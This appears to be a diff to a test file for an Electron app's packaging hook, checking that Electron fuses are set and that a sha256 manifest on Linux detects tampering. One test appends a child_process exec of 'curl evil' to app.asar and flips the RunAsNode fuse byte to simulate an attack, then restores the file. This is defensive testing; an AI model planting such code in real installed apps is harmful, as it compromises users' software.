@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import { createRequire } from 'node:module';
 import path from 'node:path';
@@ -46,21 +47,30 @@ describe('the fuses hook of the packaged app (build/fuses.cjs)', () => {
   // asar integrity off, only-asar off, browser V8 snapshot off, file:// privileges on, WASM trap handlers on.
   const electronDefaults = '101100011';
 
+  /** A packed app as electron-builder leaves it for afterPack: the executable, app.asar, one unpacked module. */
   async function packWith(platform: 'linux' | 'win32') {
     const appOutDir = tempDir('hoso-fuses-');
+    const outDir = tempDir('hoso-release-');
     const exe = path.join(appOutDir, platform === 'win32' ? 'HoSo.exe' : 'hoso');
     const wire = Buffer.concat([Buffer.from([1, electronDefaults.length]), Buffer.from(electronDefaults)]);
     fs.writeFileSync(exe, Buffer.concat([Buffer.alloc(64, 0xcc), Buffer.from(SENTINEL), wire, Buffer.alloc(64)]));
+    const unpacked = path.join(appOutDir, 'resources', 'app.asar.unpacked', 'node_modules', 'argon2');
+    fs.mkdirSync(unpacked, { recursive: true });
+    fs.writeFileSync(path.join(appOutDir, 'resources', 'app.asar'), 'asar archive');
+    fs.writeFileSync(path.join(unpacked, 'argon2.node'), 'native module');
     await flipHosoFuses({
       appOutDir,
+      outDir,
+      arch: 1, // builder-util's Arch.x64
       electronPlatformName: platform,
-      packager: { executableName: 'hoso', appInfo: { productFilename: 'HoSo' } },
+      packager: { executableName: 'hoso', appInfo: { productFilename: 'HoSo', version: '0.1.0' } },
     });
-    return getCurrentFuseWire(exe) as Promise<Record<number, number>>;
+    const fuses = (await getCurrentFuseWire(exe)) as Record<number, number>;
+    return { fuses, exe, appOutDir, outDir };
   }
 
   it('turns off running as Node, NODE_OPTIONS and --inspect, and loads the app only from its asar', async () => {
-    const fuses = await packWith('linux');
+    const { fuses } = await packWith('linux');
     expect(fuses[FuseV1Options.RunAsNode]).toBe(FuseState.DISABLE);
     expect(fuses[FuseV1Options.EnableNodeOptionsEnvironmentVariable]).toBe(FuseState.DISABLE);
     expect(fuses[FuseV1Options.EnableNodeCliInspectArguments]).toBe(FuseState.DISABLE);
@@ -75,10 +85,43 @@ describe('the fuses hook of the packaged app (build/fuses.cjs)', () => {
   });
 
   it('turns on asar integrity validation for Windows, where electron-builder embeds the hash', async () => {
-    const fuses = await packWith('win32');
+    const { fuses, outDir } = await packWith('win32');
     expect(fuses[FuseV1Options.EnableEmbeddedAsarIntegrityValidation]).toBe(FuseState.ENABLE);
     expect(fuses[FuseV1Options.OnlyLoadAppFromAsar]).toBe(FuseState.ENABLE);
     expect(fuses[FuseV1Options.RunAsNode]).toBe(FuseState.DISABLE);
+    // Windows checks the archive itself: no file list is written beside its installer.
+    expect(fs.readdirSync(outDir)).toEqual([]);
+  });
+
+  it('on Linux, lists the packed files for sha256sum -c, which catches an edited app.asar or a fuse set back', async (ctx) => {
+    if (spawnSync('sha256sum', ['--version']).error) return ctx.skip(true, 'sha256sum (coreutils) is not installed');
+    const { exe, appOutDir, outDir } = await packWith('linux');
+    const manifest = path.join(outDir, 'HoSo-0.1.0-linux-x64.sha256');
+    const listed = fs
+      .readFileSync(manifest, 'utf8')
+      .trimEnd()
+      .split('\n')
+      .map((line) => line.slice(66));
+    expect(listed).toEqual([
+      'hoso',
+      'resources/app.asar',
+      'resources/app.asar.unpacked/node_modules/argon2/argon2.node',
+    ]);
+    const check = () => spawnSync('sha256sum', ['--quiet', '-c', manifest], { cwd: appOutDir, encoding: 'utf8' });
+    expect(check().status).toBe(0);
+
+    // The attack Electron does not stop on Linux: code added to app.asar in the installed folder.
+    const asar = path.join(appOutDir, 'resources', 'app.asar');
+    const original = fs.readFileSync(asar);
+    fs.appendFileSync(asar, ';require("child_process").exec("curl evil")');
+    expect(check()).toMatchObject({ status: 1, stdout: expect.stringContaining('resources/app.asar: FAILED') });
+    fs.writeFileSync(asar, original);
+
+    // And RunAsNode turned back on in the executable's fuse wire.
+    const binary = fs.readFileSync(exe);
+    binary[binary.indexOf(SENTINEL) + SENTINEL.length + 2 + FuseV1Options.RunAsNode] = FuseState.ENABLE;
+    fs.writeFileSync(exe, binary);
+    expect(check()).toMatchObject({ status: 1, stdout: expect.stringContaining('hoso: FAILED') });
   });
 
   it('packs one asar with its integrity hash computed, unpacks only the native modules, and flips the fuses', () => {
